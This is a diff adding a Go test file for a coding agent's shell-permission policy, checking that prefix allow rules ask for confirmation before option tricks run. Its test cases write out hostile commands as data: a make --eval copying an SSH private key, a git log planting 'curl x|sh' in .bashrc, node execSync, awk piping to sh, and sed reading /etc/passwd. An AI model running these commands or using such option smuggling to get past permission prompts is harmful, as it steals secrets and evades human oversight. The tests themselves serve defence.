@@ -1,0 +1,198 @@
+package permission
+
+import "testing"
+
+// TestPrefixRuleOptions: a prefix rule allows further operands, and
+// further options only when they are known to neither run or load code
+// or configuration, nor write a file, nor change directory; every other
+// word the rule does not name asks, however it is spelled.
+func TestPrefixRuleOptions(t *testing.T) {
+	npmRunTest := []string{"Bash(npm run test:*)"}
+	npmTest := []string{"Bash(npm test:*)"}
+	makeTest := []string{"Bash(make test:*)"}
+	gitLog := []string{"Bash(git log:*)"}
+	gitDiff := []string{"Bash(git diff:*)"}
+	goTest := []string{"Bash(go test:*)"}
+	sortAny := []string{"Bash(sort:*)"}
+	pytest := []string{"Bash(pytest:*)"}
+	cargoTest := []string{"Bash(cargo test:*)"}
+	asks := func(name string, allow []string, line, reason string) decideCase {
+		return decideCase{name: name, allow: allow, call: bash(line), want: Ask, reason: reason}
+	}
+	allows := func(name string, allow []string, line string) decideCase {
+		return decideCase{name: name, allow: allow, call: bash(line), want: Allow}
+	}
+	runDecide(t, []decideCase{
+		// what ran code or wrote a file through an allow rule
+		asks("npm node options", npmRunTest, `npm run test '--node-options=--import=data:text/javascript,import("child_process").then(c=>c.execSync("id"))'`,
+			"option --node-options is not named by the rule Bash(npm run test:*)"),
+		asks("make eval", makeTest, `make test '--eval=x:=$(shell cat ~/.ssh/id_rsa > /tmp/k)'`, "option --eval is not named"),
+		asks("git log output", gitLog, `git log -1 '--format=tformat:curl x|sh' --output=/var/tmp/ah/.bashrc`, "option --output is not named by the rule Bash(git log:*)"),
+		// the spellings of the same class
+		asks("make -E separate", makeTest, `make test -E 'x:=$(shell id)'`, "option -E"),
+		asks("make -E combined", makeTest, `make test -Ex:=1`, "option -E (in -Ex:=1)"),
+		asks("make -E after a harmless flag", makeTest, `make test -sE 'x:=1'`, "option -E (in -sE)"),
+		asks("make -f", makeTest, "make test -f /tmp/evil.mk", "option -f"),
+		asks("make -C", makeTest, "make test -C /tmp/evil", "option -C"),
+		asks("make --file=", makeTest, "make test --file=/tmp/evil.mk", "option --file"),
+		asks("make assignment", makeTest, "make test CC=/tmp/evil", "CC=/tmp/evil"),
+		asks("make := assignment", makeTest, `make test 'x:=$(shell id)'`, "the variable assignment x:=…"),
+		asks("make != assignment", makeTest, `make test 'x!=id'`, "the variable assignment x!=…"),
+		asks("make assignment after --", makeTest, "make test -- SHELL=/tmp/sh", "SHELL=/tmp/sh"),
+		asks("make assignment from an expansion", makeTest, "make test $X", "may expand to an option"),
+		asks("make assignment from an expansion inside a word", makeTest, "make test build$X", "`build$…` may expand to a variable assignment"),
+		asks("make assignment from a glob", makeTest, "make test *.o", "may expand to"),
+		asks("uniq's output file", []string{"Bash(uniq:*)"}, "uniq -c in ~/.bashrc", "the file `~/.bashrc` that the command writes is not named"),
+		allows("uniq's input", []string{"Bash(uniq:*)"}, "uniq -c -f 1 in"),
+		asks("dd of=", []string{"Bash(dd if=a:*)"}, "dd if=a of=/tmp/x", "operand `of=/tmp/x`"),
+		asks("git diff --output=", gitDiff, "git diff --output=/tmp/x", "option --output"),
+		asks("git diff --output separate", gitDiff, "git diff --output /tmp/x", "option --output"),
+		asks("git log --output quoted", gitLog, `git log "--output=x"`, "option --output"),
+		asks("git log --output escaped", gitLog, `git log --out\put=x`, "option --output"),
+		asks("git log abbreviated --output", gitLog, "git log --outp=x", "option --outp"),
+		asks("git log -O is not listed", gitLog, "git log -Ofile", "option -O (in -Ofile)"),
+		asks("sort -o", sortAny, "sort -o out x", "option -o"),
+		asks("sort -o combined", sortAny, "sort -oout x", "option -o (in -oout)"),
+		asks("sort -o after flags", sortAny, "sort -ro out x", "option -o (in -ro)"),
+		asks("sort --output", sortAny, "sort --output=out x", "option --output"),
+		asks("sort -T", sortAny, "sort -T /tmp/d x", "option -T"),
+		asks("go test -o", goTest, "go test -o /tmp/x ./...", "option -o"),
+		asks("go test -coverprofile=", goTest, "go test -coverprofile=c.out ./...", "option -coverprofile"),
+		asks("go test --coverprofile", goTest, "go test --coverprofile c.out ./...", "option --coverprofile"),
+		asks("go test -C", goTest, "go test -C /tmp/x ./...", "option -C"),
+		asks("go test -ldflags", goTest, "go test -ldflags=-extld=/tmp/x ./...", "option -ldflags"),
+		asks("go test -args", goTest, "go test ./... -args -test.coverprofile=x", "option -args"),
+		asks("go test past --", goTest, "go test ./... -- -test.coverprofile=x", "option -test.coverprofile"),
+		asks("npm --userconfig", npmTest, "npm test --userconfig=/tmp/rc", "option --userconfig"),
+		asks("npm --prefix", npmTest, "npm test --prefix /tmp/x", "option --prefix"),
+		asks("npm -w", npmTest, "npm test -w pkg", "option -w"),
+		asks("npm script options past --", npmTest, "npm test -- --require ./evil.js", "option --require"),
+		asks("npm run script options past --", npmRunTest, "npm run test -- --config=/tmp/x", "option --config"),
+		asks("pytest -c", pytest, "pytest -c evil.ini", "option -c"),
+		asks("pytest -c combined", pytest, "pytest -xcevil.ini", "option -c (in -xcevil.ini)"),
+		asks("pytest -o addopts", pytest, "pytest -o addopts=-pevil", "option -o"),
+		asks("pytest -p", pytest, "pytest -p evil", "option -p"),
+		asks("pytest --rootdir", pytest, "pytest --rootdir=/tmp", "option --rootdir"),
+		asks("cargo --manifest-path=", cargoTest, "cargo test --manifest-path=/tmp/x/Cargo.toml", "option --manifest-path"),
+		asks("cargo --manifest-path separate", cargoTest, "cargo test --manifest-path /tmp/x/Cargo.toml", "option --manifest-path"),
+		asks("cargo --config", cargoTest, "cargo test --config 'build.rustc=\"/tmp/x\"'", "option --config"),
+		asks("cargo harness --logfile", cargoTest, "cargo test -- --logfile /tmp/x", "option --logfile"),
+		asks("an expansion may be an option", gitLog, "git log $X", "`$…` may expand to an option"),
+		asks("a quoted expansion may be an option", gitLog, `git log "$X"`, "may expand to an option"),
+		asks("a glob may match a file named as an option", gitLog, "git log *", "`*` may expand to an option"),
+		asks("a brace may expand to an option", gitLog, "git log {--output=x,y}", "may expand to an option"),
+		allows("a tilde expands to a path", goTest, "go test ~/src/..."),
+		asks("a program forge does not know: any option", []string{"Bash(./build.sh:*)"}, "./build.sh --out=/tmp/x", "option --out"),
+		asks("a program by a path outside the system's directories is not the one forge knows", []string{"Bash(./ls:*)"}, "./ls -la", "option -la"),
+		allows("a program in a system directory is", []string{"Bash(/usr/bin/ls:*)"}, "/usr/bin/ls -la"),
+		asks("python-like names are not python", []string{"Bash(python-x:*)"}, "python-x -u", "option -u"),
+		asks("a program forge does not know: + options too", []string{"Bash(less:*)"}, "less '+!id' x", "option +!id"),
+		allows("+ is an operand for a program forge knows", sortAny, "sort +1 x"),
+		asks("git options before the subcommand", []string{"Bash(git:*)"}, "git -C /tmp/x status", "option -C"),
+		asks("git subcommand forge does not know", []string{"Bash(git:*)"}, "git frob --x", "option --x"),
+		asks("git branch -D", []string{"Bash(git branch:*)"}, "git branch -D main", "option -D"),
+		asks("find -delete", []string{"Bash(find:*)"}, "find . -delete", "option -delete"),
+		asks("find -fprint", []string{"Bash(find:*)"}, "find . -fprint /tmp/x", "option -fprint"),
+		asks("python -c", []string{"Bash(python3:*)"}, "python3 -c 'import os'", "option -c"),
+		asks("python -m pytest -p", []string{"Bash(python3 -m pytest:*)"}, "python3 -m pytest -p evil", "option -p"),
+		asks("xargs -a", []string{"Bash(xargs:*)", "Bash(grep:*)"}, "xargs -a /tmp/list grep x", "option -a"),
+		asks("xargs runs an option the inner rule does not name", []string{"Bash(xargs:*)", "Bash(go test:*)"}, "echo x | xargs go test -exec /tmp/x", "runs the program its option -exec names"),
+
+		// what keeps running without a question
+		allows("git log harmless", gitLog, `git log --oneline -n 5 --stat --graph --author "A B" --format=%H -5`),
+		allows("git log path past --", gitLog, "git log -- --output=x"),
+		allows("git log operand in a directory", gitLog, "git log ./*"),
+		allows("go test flags", goTest, "go test -race -v -count=1 -run TestX -short -cover ./..."),
+		allows("go test flags with two dashes", goTest, "go test --race -run=TestX ./..."),
+		allows("go test value as an expansion", goTest, "go test -run $T ./..."),
+		allows("ls -la", []string{"Bash(ls:*)"}, "ls -la --color=auto $D"),
+		allows("grep -rn", []string{"Bash(grep:*)"}, "grep -rn --include='*.go' foo ."),
+		allows("npm test --silent", npmTest, "npm test --silent"),
+		allows("npm run test operand", npmRunTest, "npm run test src/a.test.js"),
+		allows("make test harmless", makeTest, "make test -j4 -k -s --no-print-directory"),
+		allows("make test -j separate", makeTest, "make test -j 4"),
+		allows("pytest harmless", pytest, `pytest -x -q -k "not slow" -rA tests/`),
+		allows("python -m pytest", []string{"Bash(python3 -m pytest:*)"}, "python3 -m pytest -x -q tests"),
+		allows("cargo test harmless", cargoTest, "cargo test --release -p core -- --nocapture --test-threads=1"),
+		allows("find harmless", []string{"Bash(find:*)"}, "find . -name '*.go' -type f -not -path './vendor/*' -print0"),
+		{name: "find -exec of an allowed command", allow: []string{"Bash(find:*)", "Bash(ls:*)"}, call: bash(`find . -type f -exec ls -la {} \;`),
+			want: Allow, rule: "Bash(ls:*), Bash(find:*)"},
+		{name: "xargs of an allowed command", allow: []string{"Bash(ls:*)", "Bash(xargs:*)", "Bash(grep:*)"}, call: bash("ls | xargs -0 grep -n x"),
+			want: Allow, rule: "Bash(ls:*), Bash(xargs:*), Bash(grep:*)"},
+		allows("git commit -m", []string{"Bash(git commit:*)"}, `git commit -am "fix: x"`),
+		allows("rule that names the option", []string{"Bash(git log --output=x:*)"}, "git log --output=x -n 1"),
+		allows("exact rule", []string{"Bash(git log --output=x)"}, "git log --output=x"),
+		allows("sort harmless", sortAny, "sort -rn -k2,2 -t: x"),
+
+		// a script is an operand with code in it
+		allows("sed print", []string{"Bash(sed -n:*)"}, "sed -n 1,5p go.mod"),
+		allows("sed substitute", []string{"Bash(sed -n:*)"}, "sed -n 's/a/b/gp' f"),
+		allows("sed loop", []string{"Bash(sed:*)"}, `sed ':a;N;$!ba;s/\n/ /g' f`),
+		allows("sed block", []string{"Bash(sed -n:*)"}, "sed -n '/foo/,/bar/{p}' f"),
+		allows("sed -e scripts", []string{"Bash(sed:*)"}, "sed -e 's/a/b/' -e '$d' f"),
+		asks("sed e command", []string{"Bash(sed -n:*)"}, "sed -n '1e id' f", "script `1e id` is not named"),
+		asks("sed s///e", []string{"Bash(sed -n:*)"}, "sed -n 's/x/id/e' f", "script"),
+		asks("sed w", []string{"Bash(sed -n:*)"}, "sed -n 'w /tmp/x' f", "script"),
+		asks("sed s///w", []string{"Bash(sed -n:*)"}, "sed -n 's/a/b/w /tmp/x' f", "script"),
+		asks("sed s///w with a bracket", []string{"Bash(sed -n:*)"}, "sed -n 's/[/]/x/w /tmp/f' f", "script"),
+		asks("sed r in a second -e", []string{"Bash(sed:*)"}, "sed -e p -e 'r /etc/passwd' f", "script"),
+		asks("sed --expression=", []string{"Bash(sed -n:*)"}, "sed -n --expression='1W /tmp/x' f", "script"),
+		asks("sed -e attached", []string{"Bash(sed -n:*)"}, "sed -n -e'1e id' f", "script"),
+		asks("sed label then a command", []string{"Bash(sed:*)"}, "sed ':a w /tmp/x' f", "script"),
+		asks("sed script known only when it runs", []string{"Bash(sed -n:*)"}, `sed -n "$S" f`, "script"),
+		asks("sed -i", []string{"Bash(sed -n:*)"}, "sed -n -i 's/a/b/' f", "option -i"),
+		allows("awk print", []string{"Bash(awk:*)"}, "awk -F: -v x=1 '{print $1, x}' f"),
+		asks("awk system", []string{"Bash(awk:*)"}, `awk 'BEGIN{system("id")}'`, "script"),
+		asks("awk redirection", []string{"Bash(awk:*)"}, `awk '{print > "/tmp/x"}' f`, "script"),
+		asks("awk pipe", []string{"Bash(awk:*)"}, `awk '{print | "sh"}' f`, "script"),
+		asks("awk -f", []string{"Bash(awk:*)"}, "awk -f evil.awk f", "option -f"),
+
+		// a glob rule's * names operands, not options
+		asks("glob: npm node options", []string{"Bash(npm run test *)"}, "npm run test --node-options=--import=x",
+			"option --node-options is not named by the rule Bash(npm run test *)"),
+		asks("glob inside a word", []string{"Bash(go test*)"}, "go test -o /tmp/x", "option -o"),
+		asks("glob: an option its words do not name", []string{"Bash(git log --format=* *)"}, "git log --format=%H --output=x", "option --output"),
+		allows("glob: an option its words name", []string{"Bash(git log --output=/tmp/log *)"}, "git log --output=/tmp/log -n 3 --format=%H"),
+		allows("glob: harmless options", []string{"Bash(npm run test *)"}, "npm run test --silent src"),
+		allows("glob spanning words", []string{"Bash(git * --help)"}, "git commit --help"),
+		asks("glob: a word with a space does not shift what is named", []string{"Bash(git log *)"}, "'git log' --output=x", "option --output"),
+
+		// deny rules see through as before
+		{name: "deny sees options", allow: gitLog, deny: []string{"Bash(git log:*)"}, call: bash("git log --output=x"), want: Deny, rule: "Bash(git log:*)"},
+		{name: "deny sees make -E", mode: ModeYolo, deny: []string{"Bash(make:*)"}, call: bash("make test -E x"), want: Deny, rule: "Bash(make:*)"},
+		// with the sandbox on, sandboxed commands still run without asking
+		{name: "sandboxed", allow: []string{"Bash(git log:*)", "Bash(ls:*)"}, call: Call{Tool: "Bash", Args: bash("git log --output=x").Args, Sandbox: SandboxWorkspace},
+			want: Allow, reason: "runs in the sandbox"},
+	})
+}
+
+// TestPrefixRuleEverydayCommands: the commands agents run all day keep
+// running without a question under the rules for their programs.
+func TestPrefixRuleEverydayCommands(t *testing.T) {
+	fx := newFixture(t)
+	p := fx.policy(t, ModeAsk, []string{"Bash(git:*)", "Bash(go:*)", "Bash(npm test:*)", "Bash(npm run:*)", "Bash(cargo:*)",
+		"Bash(make:*)", "Bash(pytest:*)", "Bash(python3 -m pytest:*)", "Bash(ls:*)", "Bash(grep:*)", "Bash(find:*)",
+		"Bash(rg:*)", "Bash(head:*)", "Bash(tail:*)", "Bash(wc:*)", "Bash(sort:*)", "Bash(cd:*)", "Bash(cat:*)",
+		"Bash(sed:*)", "Bash(gofmt:*)", "Bash(xargs:*)"}, nil)
+	for _, line := range []string{
+		"git status --porcelain", "git status -sb", "git diff --cached --stat", "git diff HEAD~1 --name-only",
+		`git log --oneline --graph --all -n 20`, `git log --since="2 weeks ago" --pretty=format:"%h %s"`, "git log -p -- a.go",
+		"git show --stat HEAD", "git blame -L 10,20 a.go", "git branch --show-current", "git branch -a", "git rev-parse HEAD",
+		"git rev-parse --show-toplevel", "git stash list", "git remote -v", "git fetch --prune origin", "git add -A",
+		`git commit -m "fix: x"`, "git checkout -b feature", "git switch -c feature", "git push -u origin feature",
+		"git grep -n foo", "git --no-pager log -5", "git ls-files --others --exclude-standard",
+		"go test ./...", "go test -race -count=1 ./...", "go test -v -run 'TestA|TestB' ./pkg", "go test -run=^TestX$ -timeout 60s .",
+		"go vet ./...", "go build ./...", "go mod tidy", "go list -m all", "go doc fmt.Println", "gofmt -l .",
+		"npm test", "npm test -- src/a.test.js", "npm run build", "npm run lint --silent",
+		"cargo test", "cargo test --release -- --nocapture", "cargo build --release", "cargo clippy --all-targets -- -D warnings",
+		"cargo fmt -- --check", "make", "make test -j4", "make -k build",
+		"pytest -x -q", "pytest tests/test_a.py::test_b -vv", "python3 -m pytest -xvs tests",
+		"ls -la", "grep -rn --include=*.go foo .", "find . -name '*.go' -not -path './vendor/*'", "rg -n foo -g '*.go'",
+		"head -n 50 a.go", "tail -f log", "wc -l a.go", "sort -u x", "cd src && ls", "cat a.go | grep -c x",
+		"sed -n 1,40p a.go", "find . -name '*.go' | xargs grep -l foo",
+	} {
+		if v := p.Decide(bash(line)); v.Decision != Allow {
+			t.Errorf("Decide(%q) = %s (%s), want allow", line, v.Decision, v.Reason)
+		}
+	}
+}
